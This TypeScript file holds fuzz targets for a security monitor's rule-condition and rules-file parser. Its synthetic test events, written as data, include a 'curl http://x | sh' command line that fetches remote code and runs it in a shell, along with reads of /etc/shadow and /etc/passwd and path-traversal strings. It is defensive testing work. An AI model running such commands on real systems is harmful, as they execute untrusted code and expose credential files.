/**
 * Fuzz targets for the rules library: conditions (as `lanner capture --filter` and rule
 * conditions take them) and whole rules files (as `lanner rules validate` loads them).
 */
import type { FieldValue } from "../../src/rules/compiler.js";
import { formatDiagnostic, type Diagnostic } from "../../src/rules/diagnostics.js";
import { compileFilter } from "../../src/rules/filter.js";
import { loadRules, type LoadResult } from "../../src/rules/loader.js";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { DecodedEvent } from "../../src/decode/event.js";
import { SYSCALL_FIELDS } from "../../src/engine/fields/index.js";
import type { FieldRecord, FieldSchema } from "../../src/rules/fields.js";
import { State } from "../../src/state/state.js";
import { exec, fork, syscall, tcp4 } from "../../src/state/test-events.js";
import { contextFor, typeOf } from "../helpers/fields.js";
import { RECORDS } from "../helpers/rules.js";
import { defineTarget, type Outcome, type Rng } from "./harness.js";
import { generateRulesFile, loadSeeds, mutateCondition, randomCheck } from "./seeds.js";

/** Events the accepted conditions are evaluated against: ordinary values and long, hostile ones. */
const LONG = "a".repeat(300);
const EVENTS: readonly { readonly type: string; readonly fields: Record<string, FieldValue> }[] = [
  {
    type: "execve",
    fields: {
      "proc.name": "bash",
      "proc.cmdline": "bash -c curl http://x | sh",
      "proc.args": "-c curl http://x | sh",
      "proc.exepath": "/usr/bin/bash",
      "proc.pname": "sshd",
      "proc.aname": ["sshd", "systemd"],
      "proc.aname[2]": "systemd",
      "fd.name": "/etc/shadow",
      "fd.num": 3,
      "fd.sip": "10.1.2.3",
      "evt.rawres": 0,
      "user.name": "root",
      "user.uid": 0,
      "evt.arg.flags": "O_RDONLY",
    },
  },
  {
    type: "openat",
    fields: {
      "proc.name": LONG,
      "proc.cmdline": `${LONG} ${"-x ".repeat(300)}`,
      "proc.args": LONG + "b",
      "proc.exepath": "/" + "a/".repeat(400) + "../".repeat(100),
      "proc.pname": "[[[[",
      "proc.aname": Array.from({ length: 20 }, () => LONG),
      "fd.name": "/" + LONG + "/../../etc/passwd",
      "fd.nameraw": "../".repeat(500),
      "fd.num": -1,
      "fd.sip": "fe80::1",
      "user.name": "\u00e9\u202e\ud83d\ude00",
      "evt.buffer": new Uint8Array(4096).fill(0x61),
    },
  },
];

function checkDiagnostics(diags: readonly Diagnostic[], text: string): void {
  const lines = text.split("\n").length;
  for (const d of diags) {
    const f = formatDiagnostic(d);
    if (
      !(d.line >= 1 && d.line <= lines + 1 && d.col >= 1) ||
      d.message === "" ||
      /\bundefined\b(?! (macro|list) ')|NaN|\[object /.test(d.message)
    )
      throw new Error(`malformed diagnostic: ${f}`);
  }
}

function evaluate(predicate: (ev: FieldRecord, t: string) => boolean): void {
  for (const ev of EVENTS) {
    const v = predicate(ev.fields as FieldRecord, ev.type);
    if (typeof v !== "boolean") throw new Error(`a condition returned ${typeof v}`);
  }
}

/**
 * Hostile events through the real producers: a state holding a process with a huge command
 * line, an open of a long `..` path, a connect over IPv6, and lifecycle records.
 */
let engine: { ctx: ReturnType<typeof contextFor>; events: DecodedEvent[] } | undefined;
function engineEvents(): { ctx: ReturnType<typeof contextFor>; events: DecodedEvent[] } {
  if (engine !== undefined) return engine;
  const s = new State({ procRoot: mkdtempSync(join(tmpdir(), "lanner-fuzz-")) });
  const events: DecodedEvent[] = [
    exec(100, "/" + "a/".repeat(400) + "sh", ["sh", LONG, "[[[["], { env: [`X=${LONG}`, "=", "A"] }),
    fork(100, 101, { comm: "sh" }),
    syscall("openat", 100, {
      ret: 3,
      paths: [[1, "../".repeat(1300) + "etc/passwd"]],
      dirs: [[1, "/" + LONG]],
    }),
    syscall("openat", 100, { ret: -2, paths: [[1, "\u00e9\u202e"]] }),
    syscall("connect", 100, {
      args: [3],
      tuple: { ...tcp4("fe80::1", 1, "::ffff:10.0.0.1", 65535), family: 10 },
    }),
    syscall("execve", 100, { ret: -2, paths: [[0, ""]] }),
  ];
  for (const ev of events) s.apply(ev);
  engine = { ctx: contextFor(s), events };
  return engine;
}

function evaluateEngine(predicate: (ev: object, t: string) => boolean): void {
  const { ctx, events } = engineEvents();
  for (const ev of events) {
    const t = typeOf(ev);
    ctx.set(ev, t, 0);
    if (typeof predicate(ctx, t) !== "boolean") throw new Error("a condition returned a non-boolean");
  }
}

let context: LoadResult | undefined;
/** Macros and lists of the seed rules files, for conditions that use them. */
function seedContext(): LoadResult {
  const seeds = loadSeeds();
  return (context ??= loadRules(
    seeds.files.map((f) => ({ name: f.name, text: f.text })),
    { fields: RECORDS },
  ));
}

export const conditionsTarget = defineTarget<string>({
  name: "conditions",
  description:
    "condition strings through parse, bind (with the seed rules' macros and lists), compile and evaluate",
  prepare() {
    seedContext();
  },
  generate(rng: Rng): string {
    const seeds = loadSeeds();
    const base = rng.chance(0.85) ? rng.pick(seeds.conditions) : randomCheck(rng);
    return rng.chance(0.1) ? base : mutateCondition(rng, base, seeds.conditions);
  },
  run(text: string): Outcome {
    const ctx = seedContext();
    const opts = { file: "<fuzz>", macros: ctx.macros, lists: ctx.lists };
    const r = compileFilter(text, { ...opts, fields: RECORDS });
    if (!r.ok) {
      if (r.diagnostics.length === 0) throw new Error("rejected without a diagnostic");
      checkDiagnostics(r.diagnostics, text);
      return "diagnosed";
    }
    evaluate(r.filter.predicate);
    // the same condition over the agent's own producers and hostile events
    const e = compileFilter(text, { ...opts, fields: SYSCALL_FIELDS as FieldSchema });
    if (e.ok) evaluateEngine(e.filter.predicate);
    return "accepted";
  },
  show: (s) => s,
});

export const rulesFilesTarget = defineTarget<string>({
  name: "rules-files",
  description:
    "whole YAML rules files through the loader (as `lanner rules validate`), accepted rules evaluated",
  prepare() {
    loadSeeds();
  },
  generate(rng: Rng): string {
    return generateRulesFile(rng, loadSeeds());
  },
  run(text: string): Outcome {
    const r = loadRules([{ name: "fuzz.yaml", text }], { fields: RECORDS });
    checkDiagnostics(r.diagnostics, text);
    for (const c of r.compiled) evaluate(c.condition);
    return r.errors > 0 ? "diagnosed" : "accepted";
  },
  show: (s) => s,
});
